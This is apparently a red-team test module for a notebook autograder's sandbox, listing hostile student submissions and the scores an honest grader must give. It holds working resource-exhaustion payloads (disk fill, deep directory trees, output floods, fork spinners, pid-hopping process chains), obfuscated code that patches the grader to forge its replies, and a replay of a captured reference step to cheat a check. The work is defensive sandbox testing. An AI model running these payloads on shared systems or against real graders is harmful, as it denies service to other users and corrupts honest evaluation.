"""Hostile entries: what a red-team review of the defences of issues 24 and 25 got through.

Each entry is what the review ran through a real ``nbgrader autograde`` (serial), the parallel
command or the rootless jail, with the scores an honest grader must give; :data:`ENTRIES` join the
batch (one as a gap), :data:`OPEN` do not (what they cost is memory and CPU, not scores or files).
What the review saw, before the fixes:

- ``leaves-a-deep-tree``: the kernel's folder of sockets (``kernel_manager.sockets_folder``) is a
  folder of the machine's own ``/tmp``, bound writable into the kernel's view. A tree 5000 folders
  deep there makes nbgrader's ``shutil.rmtree(..., ignore_errors=True)`` raise ``RecursionError``
  (it is not an ``OSError``): nbgrader drops the submission ("There was an error processing
  assignment"), and the tree, with whatever files it holds, stays in ``/tmp/autograder-kernels-*``
  after the batch (the ``atexit`` rmtree fails the same way). As root and rootless alike.
  ``os.walk`` in the tests' leftover scans (``tests/test_isolation_parallel.py``) fails on it too;
- ``fills-disk-through-sockets-folder``: the same folder takes any number of files of up to
  RLIMIT_FSIZE each, on the machine's root filesystem, not on the kernel's 512 MiB tmpfs: a kernel
  can fill the disk that holds the gradebook (and every other student's autograded notebooks)
  within its budget;
- ``rewrites-replies-unflagged``: ``rewrites-replies-through-gc`` without ``gc`` or any name the
  reach scanner folds (``sys.modules`` reached by ``vars(sys)[...]`` and names spelled backwards
  through ``reversed``): not flagged, and the stubbed ``pad_batch`` earns the overflow check;
- ``pastes-a-rescaled-step``: ``pastes-a-seen-step`` with the substitute's two factors (constants in
  the program a trainer is handed: ``stablehlo.constant dense<0.725601196>``) divided back out:
  the lesson's step, which the notebook never wrote, and both step checks pass;
- ``floods-nbgrader-memory``: three ``display`` outputs of 12 MiB on one line each, each over the
  8 MiB an output may hold: nbgrader holds them (LimitOutput counts lines, not bytes) and writes them
  into the autograded notebook (the review: 3 x 100 MiB took nbgrader's process to 1192 MiB and left
  a 300 MiB notebook). The batch used 3 x 32 MiB until a fresh-clone run under the suite's load
  scored the notebook's last cell zero, most likely past the batch's 80 s a notebook while 96 MiB
  crossed IOPub; 36 MiB is over both the output's and the notebook's limits as well;
- ``sanitises-slowly``: 8 MiB of ``text/markdown`` output (``[a](`` repeated) costs nbgrader's
  process ~13 s of CPU per MiB in ``SanitiseStudentContent`` (nbconvert's markdown parser), after
  the kernel and its budget are gone: 89 s for a notebook with a 60 s budget, and it scales with
  the output; the markdown has no hazard, so it is kept and parsed again by every page view;
- ``starves-neighbours``: processes that each ``setsid()`` (a scheduler autogroup each) spin
  for a while: no CPU share per kernel, so under ``--workers 2`` the neighbour's notebook took
  70 s instead of 7 (its wall-clock limits, 40 s a property, are then the victim's risk);
- ``hops-pids-to-outlive-cleanup`` (held): chains of processes that fork and exit at once, forever.
"""

from __future__ import annotations

import nbformat

from .model import HS, PM, SMM, Gap, Hostile, points, zero
from .notebooks import index_of, insert_after, replace, stub

#: The mark every file or folder these entries leave carries (as ``hostile.isolation.LEFTOVER``).
LEFTOVER = "kernel-leftover"

#: Finds the kernel's own folder of sockets from its own ZMQ sockets (``/proc/net/unix`` of its network
#: namespace), digs ``{depth}`` folders deep in it and writes up to ``{mib}`` MiB there in files of 1 MiB
#: chunks, stopping at the first refusal; prints how many MiB the machine's filesystem lost.
SOCKETS_FOLDER = r'''
import os

def _own_sockets_folder():
    with open("/proc/net/unix") as f:
        rows = f.read().splitlines()[1:]
    paths = sorted(r.split()[7] for r in rows if len(r.split()) > 7 and r.split()[7].startswith("/"))
    return os.path.dirname(paths[0]) if paths else None

_folder, _levels, _written = _own_sockets_folder(), 0, 0
if _folder is not None:
    _before = os.statvfs(_folder)
    try:
        _fd = os.open(_folder, os.O_RDONLY | os.O_DIRECTORY)
        for _ in range({depth}):
            os.mkdir("{mark}", dir_fd=_fd)
            _next = os.open("{mark}", os.O_RDONLY | os.O_DIRECTORY, dir_fd=_fd)
            os.close(_fd)
            _fd, _levels = _next, _levels + 1
        _chunk = b"x" * (1 << 20)
        while _written < {mib}:
            _w = os.open(f"{mark}-{{_written}}", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=_fd)
            try:
                os.write(_w, _chunk)
            finally:
                os.close(_w)
            _written += 1
    except OSError as _error:
        print("redteam-disk: refused: " + str(_error))
    _after = os.statvfs(_folder)
    _lost = max(0, _before.f_bavail - _after.f_bavail) * _after.f_frsize // 2**20
    print(f"redteam-disk: deep tree of {{_levels}} levels; the kernel's sockets folder took {{_lost}} MiB "
          f"of a filesystem of {{_before.f_blocks * _before.f_frsize // 2**20}} MiB")
else:
    print("redteam-disk: no sockets folder of the machine's in the kernel's view")
'''


def sockets_folder(depth: int, mib: int) -> str:
    return SOCKETS_FOLDER.format(depth=depth, mib=mib, mark=LEFTOVER)


#: Finds the serving agent with no name the reach scanner folds, and rewrites its replies as
#: ``hostile.forging.REWRITES_REPLIES_THROUGH_GC`` does.
REWRITES_REPLIES_UNFLAGGED = '''
import sys

def _spell(backwards):
    return "".join(reversed(backwards))

_table = vars(sys)[_spell("seludom")]
_serving = _table[".".join(map(_spell, ["redargotua", "gnidarg", "evres"]))]
_cls = vars(_serving)[_spell("tnegA")]
_name = _spell("rewsna")
_original = vars(_cls)[_name]
_said_raised, _said_types, _said_tampered = _spell("desiar"), _spell("sepyt"), _spell("derepmat")


def _rewritten(self, request):
    reply = _original(self, request)
    if _said_raised in reply:
        reply[_said_raised][_said_types] = [[e.__module__, e.__name__] for e in (ValueError, Exception)]
    if _said_tampered in reply:
        reply[_said_tampered] = []
    return reply


setattr(_cls, _name, _rewritten)
'''

#: ``pad_batch`` left unfinished (as ``hostile.corpus.UNFINISHED_PAD_BATCH``): it exists, and raises.
UNFINISHED_PAD_BATCH = '''
def pad_batch(values, size):
    raise NotImplementedError("to do")
'''


def _pastes_a_rescaled_step(data: bytes) -> bytes:
    """host_sync resubmitted with ``sgd_step`` made of the substitute one grading run handed the
    trainers, its learning-rate factor and loss scale (two constants of that program) divided out."""
    import base64

    from autograder.kit.handed import Compiled
    from autograder.properties.test_host_sync import _step_avals, _Substitute

    seen = _Substitute.draw()
    program = base64.b64decode(Compiled(seen.step(), *_step_avals()).serialized())
    nb = nbformat.reads(data.decode(), as_version=4)
    nb.cells[index_of(nb, "sgd_step")].source = (
        "from jax import export\n\n"
        "# the step the grader handed my trainers last time, and the two constants I read in it\n"
        f"_program = export.deserialize(bytearray({bytes(program)!r}))\n"
        f"_LR_FACTOR, _LOSS_SCALE = {seen.lr_factor!r}, {seen.loss_scale!r}\n"
        "\n\n@jax.jit\ndef sgd_step(theta, x, y, lr):\n"
        "    theta, loss = _program.call(theta, x, y, lr / _LR_FACTOR)\n"
        "    return theta, loss / _LOSS_SCALE\n"
    )
    return nbformat.writes(nb).encode()


#: ``{count}`` outputs of ``{mib}`` MiB, each one line of text.
FLOODS_NBGRADER = '''
from IPython.display import display
for _i in range({count}):
    display({{"text/plain": str(_i) * ({mib} << 20)}}, raw=True)
print("redteam-flood: displayed", {count}, "outputs of", {mib}, "MiB")
'''

#: ``{count}`` markdown outputs of ``{kib}`` KiB that nbconvert's markdown parser reads slowly.
SANITISES_SLOWLY = '''
from IPython.display import Markdown, display
for _ in range({count}):
    display(Markdown("[a](" * ({kib} * 256)))
print("redteam-markdown: displayed {count} markdown outputs of {kib} KiB")
'''

#: ``{procs}`` processes, each in a session (so a scheduler autogroup) of its own, spin for ``{seconds}`` s.
STARVES_NEIGHBOURS = '''
import os, time
_end = time.time() + {seconds}
_children = []
for _ in range({procs}):
    _pid = os.fork()
    if _pid == 0:
        os.setsid()
        while time.time() < _end:
            pass
        os._exit(0)
    _children.append(_pid)
for _pid in _children:
    os.waitpid(_pid, 0)
print("redteam-cpu: spun", len(_children), "processes for {seconds} s")
'''

#: ``{chains}`` processes that never keep a pid: each forks and exits every 2 ms, forever (a Python without
#: ``site`` or JAX, so a fork is cheap), in a session of its own, every descriptor closed. The pause keeps
#: this entry to what it is named for, outliving the cleanup: chains that fork with no pause are also 8
#: spinning processes, the open limit ``starves-neighbours`` names (no CPU share per kernel), and on CI's
#: loaded machine they starved the notebook's own last grade cell past its time (stop 42: test_sorting 0).
HOPS_PIDS = r"""
import os, sys
_HOP = "import os, time\nwhile True:\n    time.sleep(0.002)\n    if os.fork():\n        os._exit(0)\n"
for _ in range({chains}):
    if os.fork() == 0:
        os.setsid()
        os.closerange(0, 4096)
        os.execv(sys.executable, [sys.executable, "-S", "-c", _HOP])
print("redteam-hop: started {chains} chains of processes that change their pid all the time")
"""

ENTRIES: tuple[Hostile, ...] = (
    Hostile(
        # Held since the sandbox seals the sockets folder (read-only once the kernel's sockets are bound):
        # the first mkdir is refused, and nothing is left for nbgrader's rmtree to trip on.
        "leaves-a-deep-tree", SMM, (insert_after("choose", sockets_folder(depth=5000, mib=1)),),
        points(SMM), feedback=r"redteam-disk: refused: \[Errno 30\] Read-only file system(.|\n)*deep tree of 0 levels",
    ),
    Hostile(
        "fills-disk-through-sockets-folder", SMM, (insert_after("choose", sockets_folder(depth=0, mib=64)),),
        points(SMM), feedback=r"redteam-disk: refused: \[Errno 30\] Read-only file system(.|\n)*"
                              r"sockets folder took ([0-9]|1[0-6]) MiB",
    ),
    Hostile(
        "rewrites-replies-unflagged", PM,
        (replace("pad_batch", UNFINISHED_PAD_BATCH), *stub("masked_objective"),
         insert_after("imports", REWRITES_REPLIES_UNFLAGGED)),
        # Flagged since reach.py counts vars() and a setattr of a computed name as reaching; Part C, judged
        # by its values, keeps its points.
        points(PM, test_padding=0, test_objective=0, test_traces=0), feedback=r"padded_masking / padding: 0 of 2 points\n NOTE  Reaches into the grader",
    ),
    Hostile(
        "pastes-a-rescaled-step", HS, _pastes_a_rescaled_step,
        points(HS, test_step=0), feedback=r"host_sync / step: 2 of 2 points",
        gap=Gap("the substitute step is the lesson's with two factors that are constants of the program "
                "handed to the trainers: divided out, a step seen once is the reference",
                today=points(HS)),
    ),
    Hostile(
        # Held since markdown past 64 KiB is shown as code, unparsed (confinement/sanitise.py).
        "sanitises-slowly", SMM, (insert_after("choose", SANITISES_SLOWLY.format(count=4, kib=2048)),),
        points(SMM), feedback=r"redteam-markdown: displayed 4 markdown outputs of 2048 KiB",
    ),
    Hostile(
        # Held since ConfinedExecute keeps an output only within 8 MiB (32 MiB a notebook): the review's
        # 3 x 100 MiB took nbgrader's process to 1192 MiB and left a 300 MiB notebook. The batch checks the
        # autograded notebook's size too.
        "floods-nbgrader-memory", SMM, (insert_after("choose", FLOODS_NBGRADER.format(count=3, mib=12)),),
        points(SMM), feedback=r"an output of 12.0 MiB was left out here(.|\n)*redteam-flood: displayed 3 outputs of 12 MiB",
    ),
    Hostile(
        # Held in the review: none survived kill_leftovers; the batch's last test finds no process left.
        # The chains start in the notebook's last cell: they fill the kernel's own pids cap (256), and
        # XLA makes its threads as it needs them, so a later cell that needs one aborts the kernel
        # (SIGABRT): its own points, by the course's rule, but a race, whose odds moved with every
        # change to how much a kernel compiles. What this entry tests is the cleanup after the kernel.
        "hops-pids-to-outlive-cleanup", SMM, (insert_after("END", HOPS_PIDS.format(chains=8)),),
        points(SMM), feedback=r"redteam-hop: started 8 chains",
    ),
)

#: Found by the review and open, so not in the batch, which checks scores and files: what it costs is
#: time. docs/threat-model.md names it as a limit.
OPEN: tuple[Hostile, ...] = (
    Hostile(
        # No CPU share per kernel: under `--workers 2` the neighbour's notebook took 70 s instead of 7.
        "starves-neighbours", SMM, (insert_after("imports", STARVES_NEIGHBOURS.format(seconds=20, procs=100)),),
        points(SMM), feedback=r"redteam-cpu: spun 100 processes for 20 s",
    ),
)
